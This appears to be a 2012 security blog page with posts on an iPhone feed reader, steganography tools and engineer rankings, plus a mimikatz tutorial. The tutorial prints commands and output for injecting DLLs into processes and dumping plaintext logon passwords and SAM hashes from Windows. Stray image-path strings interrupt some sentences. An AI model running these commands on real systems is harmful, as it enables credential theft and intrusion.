in the past days I have been traveling a lot and I needed a specific security feedreader for my mobile device. I have an iPhone and while I was looking into the APP-Store I was unable to find a free security specific feed reader, I got the chance to find out only generic feed readers and most of all were not for free. So I decided to build one Security specific reader and,  exploiting the new SDK feature (distributing it without the need of the APP-Store), I decide to put it freely available from this post.

The following screenshots show how the reader woks: Just type on it and it will load security feeds from most of the well-known security web sites. It is extremely easy to use and simple. You won't have any kind of options and no configurations are needed (only Internet is needed). The goal of this very very simple project is to have a "Tap-and-GO" security reader, nothing more nothing less.If you have your own feed to put on it please feel free to contact me, I'll release some upgrade from time to time, depending of your appreciation. The file you are going to download is a classic IPA file.To install it just use your iTunes ;).

Download !

Have fun !

Friday, March 9, 2012

Steganography Tools: a non exhaustive survey

Yesterday, talking about steganography withCeSeNA group, came out that some people were not familiar with some of the most significative tools in the steganography field. Thanks to Luca Mella, who shared with me a quite exhaustive list, I am going to post some interesting steganography resources to have a place where to find them all.

According to wikipedia Steganography is the art and science of writing hidden messages in such a way that no one, apart from the sender and intended recipient, suspects the existence of the message, a form of security through obscurity. In other words the art of hiding informations over the obscurity principle (please don't confuse it with cryptography, which is totally another topic)

The first tool that I am going to list is called: webStego (and its Open version). WebStego offers steganography in bitmaps, text files, HTML files and PDF files. It is has two very user-friendly interfaces and is ideal for securely transmitting data online or adding copyright information, especially with the copyright information manager.

OutGuess is another in great tool to detect steganographic content in images. It implements different steganographic algorithms. Based on clustering techniques it is able to detect on JPEG images the following algorithms: jsteg, jphide (unix and windows), invisible secrets, outguess 01.3b, F5 (header analysis), appendX and camouflage.

Talking about steganography on audio file a great resource is the following one provided by snot monkey. It offers a great survey with the most used techniques such as: LSB Coding, Parity Coding, Phase Coding, Spread Spectrum coding and Echo Hiding. MP3Stego is a tool woking on audio files. Specifically it works on MP3 filetypes. It is able to hide and to extract content from MP3 files.

VSL: Virtual Steganographic Laboratory (VSL) is a graphical block diagramming tool that allows complex using, testing and adjusting of methods both for image steganography andsteganalysis. VSL provides simple GUI along with modular, plug-in architecture.

The Digital Invisible Ink Toolkit is a Java steganography tool that can hide any sort of file inside a digital image (regarding that the message will fit, and the image is 24 bit colour). It works on most of the Operative Systems since Java Based.

Specifically,  Digital Invisible Ink Toolkit has a great analysis feature in which you decide what image to be analyzed, which algorithm to check (even all) anywhere to stamp the results. This tool is great to find out what tripe of steganography has been used in a given image. The following image (click to make it bigger) shows the analysis section.

Another interesting way to hide information is trough the Text. This techniques consists in hiding information into ascii characters. There are several ways to do that such as: (a) hiding information in spaces, (b) tabs and (c) peculation marks. Spammimic is one of the best exponents of this techniques. Finally I conclude this absolutely not exhaustive review of Steganography tools with a website containing most of the stego tools out there.

Thursday, March 8, 2012

Where are the best engineers ?I folks, today I came across this interesting paper about the top ranked Engineers in the world. I found it very interesting since "proved" exactly my personals opposite thoughts on this topic (which BTW it is not focused on Security at all), and for such a reason I decide to post it here even if it is a total off topic post.

I don't know why in my mind I always been believing that best Engineers  (obviously I am referring to Computer Engineers ) where in Universities. In my personal ranking list there were something like Stanford, MIT and Berkeley Universities  as places where some of the top Engineers were gathered. My logical flow was pretty clear, best universities produce best engineers this means that best University tends to be rounded by best Engineers. Well I was wrong. Best engineers , like most of the people out there, are attracted by good working positions, which include (but not limited to) good salaries, benefits and free time, and so they tend to "move out" from Universities that often (butnot always) are not able to compete with big giants like Apple, Google, Oracle, Microsoft etc... According to this research the top ranked Engineers work for companies and not for Universities as shown in the following fancy diagram.

Personally I think  it is normal, as said, often (but not always) Universities cannot compete with giants in terms of good job positions, so I don't have to say that I agree or that I do not agree. It is a statistic.

As you might see from the above diagram Palantir seems to be the company with the top ranked Engineers. For sure Palantir interview processes are very hard and only a few percentage sees "the end". This is not a surprise for me, Palantir works with "delicate" agencies such as secret services and high finance, they need for sure the top ranked Engineers. Surprisingly (for me) Dropbox engineers come in the second place while Google and Apple are respectively in the 4th and 6th position. Sincerely I  was supposed to see Google and Apple in the top of this list. On the other side the first Universities in the list (with score 77) are Stanford University and MIT. If compared to the companies would be in the 6th position, before Apple and Twitter. This makes me reflecting a lot specifically for European companies and universities ...

Wednesday, February 29, 2012

An interesting tool for your SwissKnife.

Hi folks,
my past weeks have been quite intensive and busy, unfortunately next weeks seem to follow the same pattern... I am going to travel between conferences and meetings since early April, this could have some influence in my posting frequency. Said that, today I'd like to share a pretty nice tool pointed me out from a student of mine called mimikatz . This windows specific tool helps penetration testers in different ways, specifically it helps pen testers in finding clear text passwords of users logged on windows users and injecting libraries into processes. The authorseems to be a french guy who posted examples and test-cases in french language. I am not a native french speaker so I am not going to describe every mimikatz feature (since I could merely understand the one I am going to describe), but rather I am going to describe the ones I believe to be more interesting for pen testers.

mimikatz::inject. This is the inject functionality implemented in mimikats framework. The inject parameter takes the PID and the library to inject as input parameters. The following example is injecting the kelloworld.dll into the process having PID 3256 which happens to be Microsoft Word processor.

mimikatz # inject::pid 3256 kelloworld.dll
Attente de connexion du client...
Serveur connecté à un client !
Message du processus :
Bienvenue dans un processus distant Gentil Kiwi

mimikatz # @ping

 mimikatz # @helloworld

The following example shows hot to use sekurlsa.dll to get windows logon plain text passwords:

mimikatz 1.0 x86 (pre-alpha) /* Traitement du Kiwi */
mimikatz # privilege::debug
Demande d'ACTIVATION du privilège : SeDebugPrivilege : OK

mimikatz # inject::process lsass.exe sekurlsa.dll
PROCESSENTRY32(lsass.exe).th32ProcessID = 488
Attente de connexion du client...
Serveur connecté à un client !
Message du processus :
Bienvenue dans un processus distant Gentil Kiwi

SekurLSA : librairie de manipulation des données de sécurités dans LSASS

mimikatz # @getLogonPasswords

Authentification Id :0;434898
Package d'authentification : NTLM
Utilisateur principal : Gentil User
Domaine d'authentification : vm-w7-ult
msv1_0 : lm{ e52cac67419a9a224a3b108f3fa6cb6d }, ntlm{ 8846f7eaee8fb117ad06bdd830b7586c }
wdigest : password
tspkg : password

Authentification Id : 0;269806
Package d'authentification : NTLM
Utilisateur principal : Gentil Kiwi
Domaine d'authentification : vm-w7-ult
msv1_0 : lm{ d0e9aee149655a6075e4540af1f22d3b }, ntlm{ cc36cf7a8514893efccd332446158b1a } wdigest : waza1234/
 tspkg : waza1234/

This actually makes me reflecting on windows memory management. Since there is no the need of having plaintext passwords in LSASS, indeed it uses hashes and not plain text passwords, it means that the plain text passwords are stuck on the memory in the original input holding variable. This makes me thinking that no memory cleaners are used in windows logon. I am not sure 100%, I could be wrong but if you follows my brainstorming it could be easily this way, which actually is a quite important mistake which allows programs to read logon passwords from memory (as actuallyis working in this way! ).

The following example shows how to use the hashes functionality to dump SAM hashes:

mimikatz # samdump::hashes z:\windows\system32\config\system z:\windows\system32\config\sam

Ordinateur : VM-W2K8R2-ENT-X
BootKey : c4ed5743f54e4f1fdc6cca89723335ce

Rid : 500
User : Administrateur
LM :
NTLM : cc36cf7a8514893efccd332446158b1a
Rid : 501
User : Invité
LM :

You will find this interesting tool here (it happens to be a french site, but google translator does its job very well). Finally I like and I do suggest to have in your ownswiss-knife this interesting tool specially if you need to inject your own DLL intospecific PID getting PID'srights. Have a nice hunting !